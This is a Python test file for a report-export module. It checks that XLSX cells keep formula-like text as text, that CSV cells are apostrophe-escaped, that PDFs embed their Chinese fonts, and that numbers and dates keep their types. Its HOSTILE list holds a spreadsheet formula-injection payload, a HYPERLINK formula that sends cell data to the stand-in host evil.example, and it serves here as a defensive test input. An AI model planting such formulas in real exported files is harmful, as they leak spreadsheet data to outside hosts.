"""Exports hold text as typed: a cell that looks like a formula stays text in the spreadsheet."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from engine.read.exports.formats import Column, Table, render, to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2", "-3", "@SUM(A1)", "plain 文本"]
TABLE = Table(title="Nonconformities", columns=[Column("title", "Title")], rows=[{"title": t} for t in HOSTILE])


def test_an_xlsx_cell_that_starts_like_a_formula_is_text_holding_exactly_what_was_typed():
    sheet = load_workbook(io.BytesIO(to_xlsx(TABLE))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}


def test_a_csv_cell_that_starts_like_a_formula_is_quoted_with_an_apostrophe():
    rows = list(csv.reader(io.StringIO(to_csv(TABLE).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE[:4]] + ["plain 文本"]


def pdf_fonts(pdf: bytes) -> list:
    """Every font the PDF's pages (and the forms they draw) select, the descendants of composite fonts included."""
    from pypdf import PdfReader

    fonts, seen = [], set()

    def walk(resources) -> None:
        resources = resources.get_object() if resources is not None else {}
        for font in resources.get("/Font", {}).values():
            if font.idnum not in seen:  # reportlab writes fonts as indirect objects
                seen.add(font.idnum)
                font = font.get_object()
                fonts.extend([font, *(d.get_object() for d in font.get("/DescendantFonts", []))])
        for xobject in resources.get("/XObject", {}).values():
            if xobject.get_object().get("/Subtype") == "/Form":
                walk(xobject.get_object().get("/Resources"))

    for page in PdfReader(io.BytesIO(pdf)).pages:
        walk(page.get("/Resources"))
    return fonts


def not_embedded(pdf: bytes) -> list[str]:
    """The fonts of the PDF whose glyphs it does not carry (a standard font such as Helvetica has no descriptor)."""
    return [str(font.get("/BaseFont")) for font in pdf_fonts(pdf)
            if font.get("/Subtype") not in ("/Type0", "/Type3")  # their descendant, their own glyph procedures
            and not {"/FontFile", "/FontFile2", "/FontFile3"} & set(font.get("/FontDescriptor") or {})]


def test_a_pdf_embeds_every_font_it_uses_and_its_chinese_reads_back():
    from pypdf import PdfReader

    many = "".join(chr(0x4E00 + i) for i in range(600))  # more characters than one 256-glyph font subset holds
    pdf = render(Table(title="导出 Export", columns=[Column("title", "标题 Title")],
                       rows=[*TABLE.rows, {"title": many}]), "pdf")
    fonts = pdf_fonts(pdf)
    assert len(fonts) >= 3 and not_embedded(pdf) == []
    assert {str(f["/FontDescriptor"]["/FontName"]).split("+")[1] for f in fonts} == {"WenQuanYiMicroHei-0"}
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "导出 Export" in text and "plain 文本" in text and "详情" in text
    assert set(many) <= set(text)


def test_an_xlsx_keeps_numbers_numeric_and_times_as_dates_in_their_own_zone_and_csv_writes_them_plainly():
    from datetime import date, datetime, timezone
    from zoneinfo import ZoneInfo

    moment = datetime(2026, 11, 20, 1, 30, 5, tzinfo=timezone.utc)
    row = {"n": 7, "x": 2.5, "at": moment.astimezone(ZoneInfo("Asia/Shanghai")), "day": date(2026, 11, 20),
           "ok": True, "none": None, "text": "12"}
    columns = [Column(key, key) for key in row]
    table = Table("类型 Types", columns, [row], lang="en")
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    values = {sheet.cell(1, i).value: sheet.cell(2, i) for i in range(1, len(columns) + 1)}
    assert values["n"].value == 7 and values["n"].data_type == "n" and values["x"].value == 2.5
    assert values["at"].value == datetime(2026, 11, 20, 9, 30, 5) and values["at"].is_date
    assert values["day"].is_date and values["day"].number_format == "yyyy-mm-dd"
    assert (values["ok"].value, values["none"].value, values["text"].value, values["text"].data_type) == (
        "yes", None, "12", "s")
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows == [list(row), ["7", "2.5", "2026-11-20 09:30:05", "2026-11-20", "yes", "", "12"]]
